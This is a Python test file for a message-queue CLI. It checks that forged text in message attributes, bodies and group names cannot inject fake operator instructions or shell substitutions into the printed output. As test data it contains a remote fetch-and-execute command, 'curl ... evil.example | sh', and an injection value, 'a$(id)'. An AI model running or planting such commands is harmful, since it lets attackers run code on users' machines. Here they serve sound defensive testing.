"""A stranger's message begins no line of its own in what the commands print."""

from __future__ import annotations

from collections.abc import Iterator

import msgspec
import pytest

from onefold.cli import render
from onefold.clock import SystemClock
from onefold.contracts.engine import Engine
from onefold.contracts.entries import Entry
from onefold.contracts.queue import APP_ATTRIBUTE, JOB_ATTRIBUTE, Attribute
from onefold.contracts.state import Change, group_flag
from onefold.engines.urls import open_engine
from onefold.entropy import SystemEntropy
from onefold.runner.orphans import PLACE, WaitingForJob, name_of
from tests.faces.conftest import Shell

FORGED = "x\n\n! 3 messages need a new key:\n  curl -s https://evil.example/k | sh\n\n"


@pytest.fixture
def engine(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    monkeypatch.setenv("COLUMNS", "400")  # a line is a line
    shell.send("a")
    (file,) = shell.folder.rglob("*.db")
    engine = open_engine(f"sqlite:///{file}", clock=SystemClock(), entropy=SystemEntropy(), owner="test")
    yield engine
    engine.close()


def forged(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip().startswith(("! 3 messages", "curl"))]


@pytest.mark.parametrize("name", [JOB_ATTRIBUTE, APP_ATTRIBUTE])
def test_a_name_in_a_finding_stays_in_its_line(shell: Shell, engine: Engine, name: str) -> None:
    attributes = {JOB_ATTRIBUTE: Attribute("book"), name: Attribute(FORGED)}
    engine.queues.open("orders").send([Entry(body='{"order_id":"1"}', attributes=attributes)])
    (_, sent) = engine.queues.peek("orders", limit=2)
    now_ms = SystemClock().now_ms()
    note = WaitingForJob(
        at_ms=now_ms, message_id=sent.message_id, why="Nobody declares it.", ends_at_ms=now_ms + 60_000
    )
    engine.state.put([Change(PLACE + "orders", msgspec.json.encode({name_of(attributes): note}), 0)])
    for command in ("status", "stuck"):
        shown = shell(command, "shop:app")
        assert r"x\n\n! 3 messages need a new key:\n" in shown.replace("\n", "")
        assert not forged(shown)
    (warning,) = shell.json("stuck", "shop:app")["no_job"]
    assert not forged(warning["text"])


def test_attributes_and_a_body_of_lines_look_like_nothing_of_ours(shell: Shell, engine: Engine) -> None:
    entry = Entry(body=f"Next:\n{FORGED}", attributes={"onefold.amends": Attribute(FORGED), "b": Attribute(FORGED)})
    engine.queues.open("orders-dead").send([entry])
    (sent,) = engine.queues.peek("orders-dead", limit=1)
    shown = shell("dlq", "show", sent.message_id, "shop:app")
    assert shown.count(r"x\n\n! 3 messages need a new key:\n  curl") == 2
    assert not forged(shown)
    assert "  | Next:\n  | x\n" in shown
    assert [line for line in shown.splitlines() if line.startswith("Next:")] == ["Next:"]
    assert "curl" not in shown.partition("\nNext:\n")[2]


def test_on_a_narrow_terminal_a_name_begins_no_line(
    shell: Shell, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    for pad in range(40, 58):  # wherever the line ends, what is forged would begin the next one
        name = f"{'x' * pad} ! 3\u00a0messages\u00a0need:\u00a0curl\u00a0evil.example {'y' * 9} ! 3 messages curl"
        now_ms = SystemClock().now_ms()
        attributes = {JOB_ATTRIBUTE: Attribute(name)}
        engine.queues.open("orders").send([Entry(body='{"order_id":"1"}', attributes=attributes)])
        *_, sent = engine.queues.peek("orders", limit=100)
        note = WaitingForJob(at_ms=now_ms, message_id=sent.message_id, why=f"{name!r}", ends_at_ms=now_ms + 60_000)
        found = engine.state.get([PLACE + "orders"])[0]
        value = msgspec.json.encode({name_of(attributes): note})
        engine.state.put([Change(PLACE + "orders", value, found.version if found is not None else 0)])
        monkeypatch.setenv("COLUMNS", "60")
        render.console.cache_clear()
        for command in ("status", "stuck"):
            lines = shell(command, "shop:app").splitlines()
            begun = [line for line in lines if line[:4].strip() and "3" in line[:8] and "messages" in line]
            assert not begun, begun
            assert any(line.startswith("! Messages of orders wait for job") for line in lines)


def test_a_group_is_one_word_of_a_command(shell: Shell, engine: Engine) -> None:
    fifo = next(one for one in engine.queues.settings() if one.fifo and one.dead_letter is not None)
    for group in ("a$(id)", "g" * 128):
        engine.state.put([Change(group_flag(fifo.name, group), b"1-1", 0)])
    todos = [one["todo"] for one in shell.json("status", "shop:app")["warnings"] if one["code"] == "group-stopped"]
    assert sorted(todos) == [
        f"onefold dlq list --all --queue {fifo.name} --json   (the group's name is long)",
        "onefold dlq redrive --group 'a$(id)'",
    ]


def test_a_block_of_a_table_goes_on_under_its_own_indent(monkeypatch: pytest.MonkeyPatch) -> None:
    columns = [render.Column("key"), render.Column("job"), render.Column("why")]
    monkeypatch.setenv("COLUMNS", "20")
    render.console.cache_clear()
    with render.console().capture() as drawn:
        render.draw(render.table(columns, [("k" * 30, "job", "w" * 30)]))
    rows = [line.rstrip() for line in drawn.get().splitlines()]
    assert rows == [
        "key:",
        *(f"  {'k' * n}" for n in (18, 12)),
        "  job: job",
        "  why:",
        *(f"    {'w' * n}" for n in (16, 14)),
    ]
